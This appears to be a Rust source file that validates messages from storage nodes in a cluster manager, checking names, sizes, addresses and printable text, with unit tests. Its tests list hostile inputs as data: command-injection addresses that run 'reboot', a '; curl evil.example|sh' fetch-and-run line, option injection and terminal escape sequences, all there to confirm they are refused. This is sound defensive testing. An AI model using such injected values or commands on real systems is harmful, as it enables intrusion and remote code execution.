//! What nodes say, judged before the machine hears it.
//!
//! A node knows the cluster's secret and may still be broken, or somebody else's by now. What it says is kept within bounds within which the
//! machine's sums are exact: names are names, lists end, numbers are possible for storage that can be bought. A node that says anything else
//! is refused, with what is wrong; nothing of it is stored.

use crate::machine::Machine;
use henge_api::manager::{FromNode, Held, LINE_MAX, Pool, Register, Seen};
use henge_api::{Ask, DiskStatus, Keeps, Status, is_name};
use std::collections::{BTreeMap, BTreeSet};

#[cfg(test)]
mod noise;

/// Most bytes of a pool or a disk: an exbibyte. Sums of 65,536 of them are what 128 bits hold, and JSON's readers count exactly up to
/// 2^53 blocks of 128 bytes.
const BYTES_MAX: u64 = 1 << 60;
/// Most requests a second.
const IOPS_MAX: f64 = 1e9;
/// Orders are counted up to here.
const REVISION_MAX: u64 = 1 << 53;
const POOLS_MAX: usize = 1024;
const DISKS_MAX: usize = 1 << 16;
const ADDRESSES_MAX: usize = 64;
const TERMS_MAX: usize = 64;
const DAYS_MAX: usize = 62;
const PLACES_MAX: usize = 1000;
const TEXT_MAX: usize = 256;
const LONG_TEXT_MAX: usize = 64 << 10;
/// Buckets of a distribution.
const BUCKETS_MAX: usize = 1 << 13;
const ASKS_MAX: usize = 4096;
const COST_MAX: u64 = 1 << 50;
/// Most of what is counted one by one, like clients and requests that wait.
const COUNT_MAX: usize = 1 << 31;
/// Most of a meter: nanoseconds of 146 years, or 4 EiB.
const METER_MAX: f64 = (1u64 << 62) as f64;

type Judged = Result<(), String>;

fn name(what: &str, name: &str) -> Judged {
    if is_name(name) {
        return Ok(());
    }
    let name: String = name.chars().take(64).filter(|c| !c.is_control()).collect();
    Err(format!("{what} \"{name}\" is no name; up to 64 letters, digits, '.', '_' and '-' are"))
}

fn text(what: &str, text: &str, most: usize) -> Judged {
    match text.len() <= most && !text.chars().any(char::is_control) {
        true => Ok(()),
        false => Err(format!("{what} is longer than {most} bytes, or not to be printed")),
    }
}

/// What people are told to type, as root: where, and nothing that a shell takes for more than a word.
fn address(said: &str) -> Judged {
    text("an address", said, TEXT_MAX)?;
    let plain = |c: char| c.is_alphanumeric() || "-._:/[]%+=,?@~".contains(c);
    let is_word = |word: &str| !word.is_empty() && !word.starts_with('-') && word.chars().all(plain);
    let fits = match said.strip_prefix("nvme connect ") {
        Some(rest) => match rest.split(' ').collect::<Vec<_>>().as_slice() {
            ["-t", "tcp", "-a", at, "-n", name] => [at, name].into_iter().all(|word| is_word(word)),
            ["-t", "tcp", "-a", at, "-s", port, "-n", name] => {
                [at, port, name].into_iter().all(|word| is_word(word))
            }
            _ => false,
        },
        // A path may have spaces.
        None if said.starts_with("nbd+unix://") => said.split(' ').all(is_word),
        None => is_word(said),
    };
    match fits {
        true => Ok(()),
        false => {
            Err(format!("the address {said:?} is none: it has characters that a shell takes for its own"))
        }
    }
}

/// What people are shown as it is, in a log or a terminal: lines, and nothing that moves a cursor.
fn prose(what: &str, text: &str) -> Judged {
    let printed = |c: char| !c.is_control() || matches!(c, '\n' | '\t');
    match text.len() <= LONG_TEXT_MAX && text.chars().all(printed) {
        true => Ok(()),
        false => Err(format!("{what} is longer than {LONG_TEXT_MAX} bytes, or not to be printed")),
    }
}

fn count(what: &str, n: usize, most: usize) -> Judged {
    if n <= most { Ok(()) } else { Err(format!("{n} {what} are more than the {most} that a manager takes")) }
}

fn bytes(what: &str, n: u64) -> Judged {
    if n <= BYTES_MAX { Ok(()) } else { Err(format!("{what}: {n} bytes are more than an exbibyte")) }
}

fn number(what: &str, x: f64, least: f64, most: f64) -> Judged {
    let fits = x.is_finite() && (least..=most).contains(&x);
    if fits { Ok(()) } else { Err(format!("{what} is {x}; it is from {least} to {most}")) }
}

/// No name twice.
fn once<'a>(what: &str, names: impl Iterator<Item = &'a String>) -> Judged {
    let mut seen = BTreeSet::new();
    for name in names {
        if !seen.insert(name) {
            return Err(format!("{what} \"{name}\" is named twice"));
        }
    }
    Ok(())
}

/// Lets the machine hear what a node says by its connection; `false`: it says what nobody says there.
pub(crate) fn hear(machine: &mut Machine, node: &str, session: u64, said: FromNode) -> bool {
    if !machine.inventory.is_current(node, session) {
        return false;
    }
    match said {
        FromNode::Hello { .. } | FromNode::Register(_) | FromNode::Renew { .. } => return false,
        FromNode::Done { name, revision, error } => machine.done(node, &name, revision, error),
        FromNode::Stats { status } => machine.stats(node, *status),
        FromNode::Period { seconds, disks } => machine.period(node, seconds, &disks),
        FromNode::Changed { held } => machine.changed_there(node, &held),
        FromNode::Asks { .. } | FromNode::Later => {} // answered elsewhere, and passed over
    }
    true
}

/// A line of a node, as its connection hears it: for whoever tries what lines do to a machine.
pub fn hear_line(machine: &mut Machine, session: u64, line: &[u8]) -> Result<(), String> {
    let heard: FromNode = henge_api::decode_line(line, LINE_MAX).map_err(|e| e.to_string())?;
    said(&heard)?;
    match heard {
        FromNode::Register(register) => machine.register(session, *register),
        heard => {
            let nodes = machine.inventory.nodes().filter(|node| node.session == Some(session));
            let names: Vec<String> = nodes.map(|node| node.record.name.clone()).collect();
            for name in names {
                hear(machine, &name, session, heard.clone());
            }
        }
    }
    Ok(())
}

/// A node that comes.
pub(crate) fn register(said: &Register) -> Judged {
    name("the node", &said.name)?;
    count("addresses", said.addresses.len(), ADDRESSES_MAX)?;
    said.addresses.iter().chain(&said.link).try_for_each(|said| address(said))?;
    count("pools", said.pools.len(), POOLS_MAX)?;
    said.pools.iter().try_for_each(pool)?;
    once("the pool", said.pools.iter().map(|pool| &pool.name))?;
    count("disks", said.disks.len(), DISKS_MAX)?;
    said.disks.iter().try_for_each(held)?;
    once("the disk", said.disks.iter().map(|disk| &disk.name))
}

/// Whether what is remembered of a node that comes can be stored: its pools, and its own disks. A store that refused it would refuse
/// everybody's changes with it.
pub(crate) fn storable(said: &Register, most: usize) -> Judged {
    let own: Vec<&Held> = said.disks.iter().filter(|disk| disk.revision.is_none()).collect();
    let kept = serde_json::to_vec(&(&said.addresses, &said.pools, own)).map_or(usize::MAX, |kept| kept.len());
    match kept <= most {
        true => Ok(()),
        false => Err(format!(
            "its pools and its own disks take {kept} bytes, and the manager's store takes {most} of one node: state fewer in its file"
        )),
    }
}

fn pool(pool: &Pool) -> Judged {
    name("the pool", &pool.name)?;
    bytes("a pool", pool.capacity)?;
    number("copies", f64::from(pool.copies), 1.0, 16.0)?;
    text("a scheduler", &pool.scheduler, TEXT_MAX * 16)?;
    pool.keeps.as_ref().map_or(Ok(()), keeps)?;
    pool.shared.iter().try_for_each(|shared| text("what a pool shares", shared, TEXT_MAX))?;
    let Some(profile) = pool.profile else { return Ok(()) };
    number("a profile's iops", profile.iops, 1e-6, IOPS_MAX)?;
    number("a profile's service, in seconds,", profile.service, 0.0, 86_400.0)
}

fn keeps(keeps: &Keeps) -> Judged {
    text("a scheduler", &keeps.scheduler, TEXT_MAX)?;
    number("gates", f64::from(keeps.gates), 1.0, DISKS_MAX as f64)?;
    count("terms", keeps.terms.len().max(keeps.needs.len()).max(keeps.units.len()), TERMS_MAX)?;
    count("service times", keeps.service.len(), TERMS_MAX)?;
    keeps.terms.iter().try_for_each(|term| text("a term", term, TEXT_MAX))?;
    for need in &keeps.needs {
        text("a term", &need.term, TEXT_MAX)?;
        count("terms beside another", need.with.len(), TERMS_MAX)?;
        for with in &need.with {
            [&with.term].into_iter().chain(&with.word).try_for_each(|term| text("a term", term, TEXT_MAX))?;
        }
    }
    let most = keeps.rate.map_or(0, |most| most.per_second).max(keeps.curves.unwrap_or(0));
    let longest = keeps.service.iter().map(|(_, time)| *time).max().unwrap_or(0);
    number("what a scheduler promises", most.max(longest) as f64, 0.0, METER_MAX)
}

fn held(held: &Held) -> Judged {
    name("the disk", &held.name)?;
    bytes("a disk", held.capacity)?;
    count("places of a disk", held.pools.len(), PLACES_MAX)?;
    for place in &held.pools {
        place.splitn(2, '/').try_for_each(|part| name("the place", part))?;
    }
    count("gateways of a disk", held.gateways.len(), PLACES_MAX)?;
    held.gateways.iter().try_for_each(|gateway| name("the gateway", gateway))?;
    once("the gateway", held.gateways.iter())?;
    terms(&held.contract)?;
    match held.revision {
        Some(revision) if revision > REVISION_MAX => {
            Err(format!("no manager counts orders up to {revision}"))
        }
        _ => Ok(()),
    }
}

fn terms(terms: &BTreeMap<String, String>) -> Judged {
    count("terms", terms.len(), TERMS_MAX)?;
    for (key, value) in terms {
        text("a term", key, TEXT_MAX)?;
        text("a term", value, TEXT_MAX)?;
        let rate = henge_core::parse_rate(value).ok().filter(|_| matches!(key.as_str(), "rate" | "limit"));
        // Millionths of requests, or bytes. What cannot be read at all, the machine does without.
        number(key, rate.map_or(0.0, |r| r.per_second as f64), 0.0, IOPS_MAX * 1e6)?;
    }
    Ok(())
}

/// What a node says once it is known.
pub(crate) fn said(said: &FromNode) -> Judged {
    match said {
        FromNode::Hello { .. } => Err("it greets twice".into()),
        FromNode::Register(said) => register(said),
        FromNode::Done { name: disk, revision, error } => {
            name("the disk", disk)?;
            number("a revision", *revision as f64, 0.0, REVISION_MAX as f64)?;
            error.iter().try_for_each(|why| prose("an error", why))
        }
        FromNode::Stats { status } => meters(status),
        FromNode::Period { seconds, disks } => {
            number("a period, in seconds,", *seconds, 0.0, 1e7)?;
            count("disks", disks.len(), DISKS_MAX)?;
            disks.iter().try_for_each(seen)
        }
        FromNode::Renew { request } => {
            text("a request for a certificate", request.replace('\n', "").as_str(), LONG_TEXT_MAX)
        }
        FromNode::Asks { asks } => {
            count("parts", asks.len(), ASKS_MAX)?;
            asks.iter().try_for_each(ask)
        }
        FromNode::Changed { held: disk } => held(disk),
        FromNode::Later => Ok(()),
    }
}

fn seen(seen: &Seen) -> Judged {
    name("the disk", &seen.name)?;
    count("buckets", seen.latency.len(), BUCKETS_MAX)?;
    // Beyond these a count is no count of commands.
    let all = seen.latency.iter().fold(0u64, |all, (_, n)| all.saturating_add(*n));
    number("a count", all.max(seen.commands).max(seen.peak) as f64, 0.0, REVISION_MAX as f64)
}

fn ask(ask: &Ask) -> Judged {
    name("the disk", &ask.disk)?;
    number("a cost", ask.cost as f64, 0.0, COST_MAX as f64)
}

fn meters(status: &Status) -> Judged {
    count("pools", status.pools.len(), POOLS_MAX)?;
    count("disks", status.disks.len(), DISKS_MAX)?;
    count("peers", status.peers.len(), DISKS_MAX)?;
    for peer in &status.peers {
        name("the peer", &peer.name)?;
        text("an address", &peer.address, TEXT_MAX)?;
        peer.error.iter().try_for_each(|why| prose("an error", why))?;
    }
    for failed in &status.failed {
        name("the disk", &failed.name)?;
        prose("an error", &failed.why)?;
    }
    for pool in &status.pools {
        name("the pool", &pool.name)?;
        bytes("a pool", pool.capacity.max(pool.promised))?;
        pool.keeps.as_ref().map_or(Ok(()), keeps)?;
        count("gates", pool.gates.len(), DISKS_MAX)?;
        let texts = [&pool.store, &pool.scheduler, &pool.configured, &pool.unit];
        texts.into_iter().chain(&pool.emulated).chain(&pool.short).try_for_each(|t| prose("a text", t))?;
        for gate in &pool.gates {
            prose("a gate", &gate.name)?;
            count("requests at a gate", gate.queued, COUNT_MAX)?;
            number("a meter", gate.busy.max(gate.in_flight_ms) as f64, 0.0, METER_MAX)?;
            gate.learned.iter().try_for_each(|cost| prose("a kind", &cost.kind))?;
        }
    }
    for disk in &status.disks {
        name("the disk", &disk.name)?;
        bytes("a disk", disk.capacity)?;
        terms(&disk.contract)?;
        let DiskStatus { meters, flow, layout, seating, .. } = disk;
        count("places of a disk", layout.places.len().max(layout.pools.len()), PLACES_MAX)?;
        count("gates", flow.gates.len(), DISKS_MAX)?;
        count("buckets", meters.histogram.as_ref().map_or(0, |h| h.counts.len()), BUCKETS_MAX)?;
        count("days", disk.kept.as_ref().map_or(0, |kept| kept.days.len()), DAYS_MAX)?;
        count("front ends", disk.fronts.len(), PLACES_MAX)?;
        count("gateways of a disk", seating.gateways.len(), PLACES_MAX)?;
        seating.gateways.iter().try_for_each(|gateway| name("the gateway", gateway))?;
        let texts = flow.waiting.iter().chain(&seating.seat).chain(&seating.stays);
        let texts = texts.chain(&disk.fronts).chain(&layout.trouble);
        texts.chain(flow.waits.keys()).try_for_each(|t| prose("a text", t))?;
        layout.places.iter().chain(&layout.pools).try_for_each(|t| text("a place", t, TEXT_MAX))?;
        count("clients", disk.connections, COUNT_MAX)?;
        count("requests pending", meters.pending, COUNT_MAX)?;
        count("reasons", flow.waits.len(), TERMS_MAX)?;
        // Totals of nanoseconds and bytes are added up over disks.
        let totals = [
            meters.commands,
            meters.reads,
            meters.failed,
            meters.late,
            flow.wait,
            flow.service,
            flow.disk_time,
        ];
        let more = [meters.bytes, meters.busy, meters.outstanding_us, meters.metered, disk.processor];
        let counts =
            meters.histogram.iter().flat_map(|h| &h.counts).fold(0u64, |all, (_, n)| all.saturating_add(*n));
        let all = totals.into_iter().chain(more).chain(flow.waits.values().copied()).chain([counts]);
        number("a meter", all.max().unwrap_or(0) as f64, 0.0, METER_MAX)?;
    }
    Ok(())
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use henge_api::manager::Profile;

    /// A pool as a node tells of it.
    pub(crate) fn pool(profile: Option<Profile>) -> Pool {
        Pool {
            name: "p".into(),
            capacity: 1 << 40,
            copies: 1,
            scheduler: "cvc".into(),
            keeps: None,
            profile,
            shared: None,
        }
    }

    fn sound() -> Register {
        let pool = pool(Some(Profile { iops: 500.0, service: 0.014 }));
        let contract = [("rate".to_owned(), "5/s".to_owned())].into();
        let pools = vec!["p".to_owned(), "n2/q".into()];
        let disk = Held {
            name: "d".into(),
            pools,
            capacity: 1,
            contract,
            revision: Some(3),
            changed: false,
            gateways: Vec::new(),
        };
        Register {
            name: "n1".into(),
            addresses: vec!["nbd://h:1/%".into()],
            link: Some("h:2".into()),
            pools: vec![pool],
            disks: vec![disk],
            speaks: henge_api::manager::speaks(),
        }
    }

    /// They are shown in a terminal.
    #[test]
    fn a_text_that_moves_a_cursor_is_refused() {
        let done = |error: &str| FromNode::Done { name: "d".into(), revision: 1, error: Some(error.into()) };
        assert_eq!(said(&done("no room on p:\n\t1 MiB is free, \u{fc}ber alles")), Ok(()));
        for moves in ["\x1b[2J", "gone\r", "\u{9b}2J", "\u{7f}", "\0"] {
            assert!(said(&done(moves)).is_err_and(|why| why.contains("printed")), "{moves:?}");
        }
        assert!(said(&done(&"x".repeat(LONG_TEXT_MAX + 1))).is_err());
    }

    /// They are shown to tenants as commands to type.
    #[test]
    fn an_address_is_a_word_for_every_shell() {
        for good in [
            "nbd://h:1/%",
            "nbds://[2001:db8::1]:10809/%",
            "nbd+unix:///%?socket=/run/a b/nbd.sock",
            "iscsi://10.0.0.5:3260/iqn.2026-11.local.henge:%/0",
            "nvme connect -t tcp -a 10.0.0.5 -n nqn.2026-11.local.henge:%",
            "nvme connect -t tcp -a fe80::1%eth0 -s 4421 -n nqn.2026-11.local.henge:%",
        ] {
            assert_eq!(address(good), Ok(()));
        }
        for bad in [
            "",
            "nbd://$(reboot)/%",
            "nbd://h:1/%;reboot",
            "nbd://h:1/% -x",
            "nbd://h:1/`reboot`",
            "nbd+unix:///%?socket=/run/a'b",
            "nbd+unix:///% -x",
            "nvme connect -t tcp -a 10.0.0.5 -n nqn:%; curl evil.example|sh",
            "nvme connect -t tcp -a 10.0.0.5 -n nqn:% --config /tmp/x",
            "nvme connect -t tcp -a -o -n nqn:%",
            "nvme connect -t tcp -a 10.0.0.5 -n nqn:%\u{202e}",
        ] {
            assert!(address(bad).is_err(), "{bad:?} is taken");
        }
    }

    #[test]
    fn a_node_has_no_more_than_the_store_takes_of_one() {
        let mut said = sound();
        let (own, managed) = (Held { revision: None, ..said.disks[0].clone() }, said.disks[0].clone());
        let many = |held: &Held| (0..1000).map(|i| Held { name: format!("d{i}"), ..held.clone() }).collect();
        said.disks = many(&managed);
        assert_eq!(storable(&said, 64 << 10), Ok(()), "those that managers made are stored one by one");
        said.disks = many(&own);
        assert!(storable(&said, 64 << 10).is_err_and(|why| why.contains("state fewer")));
        assert_eq!(storable(&said, usize::MAX), Ok(()));
    }

    #[test]
    fn what_no_storage_is_is_refused_and_named() {
        assert_eq!(register(&sound()), Ok(()));
        type Spoil = fn(&mut Register);
        let spoiled: [(Spoil, &str); 15] = [
            (|r| r.name = "../n".into(), "no name"),
            (|r| r.pools[0].capacity = 1 << 63, "exbibyte"),
            (|r| r.pools[0].copies = 0, "copies"),
            (|r| r.pools[0].name = "a/b".into(), "no name"),
            (|r| r.pools.push(r.pools[0].clone()), "twice"),
            (|r| r.pools[0].profile = Some(Profile { iops: f64::INFINITY, service: 0.0 }), "iops"),
            (|r| r.pools[0].profile = Some(Profile { iops: 0.0, service: 0.0 }), "iops"),
            (|r| r.disks[0].capacity = u64::MAX, "exbibyte"),
            (|r| r.disks[0].revision = Some(u64::MAX), "orders"),
            (|r| r.disks[0].pools = vec!["a/../b".into()], "no name"),
            (|r| r.disks.push(r.disks[0].clone()), "twice"),
            (|r| drop(r.disks[0].contract.insert("rate".into(), "9999999999/s".into())), "rate"),
            (|r| r.addresses = vec!["\x1b[2J".into()], "printed"),
            (|r| r.addresses = vec![String::new(); 65], "addresses"),
            (|r| r.link = Some("h:2;reboot".into()), "a shell"),
        ];
        for (i, (spoil, says)) in spoiled.into_iter().enumerate() {
            let mut said = sound();
            spoil(&mut said);
            let why = register(&said).expect_err(&format!("spoiled {i} is taken"));
            assert!(why.contains(says), "{i}: {why}");
        }
    }
}
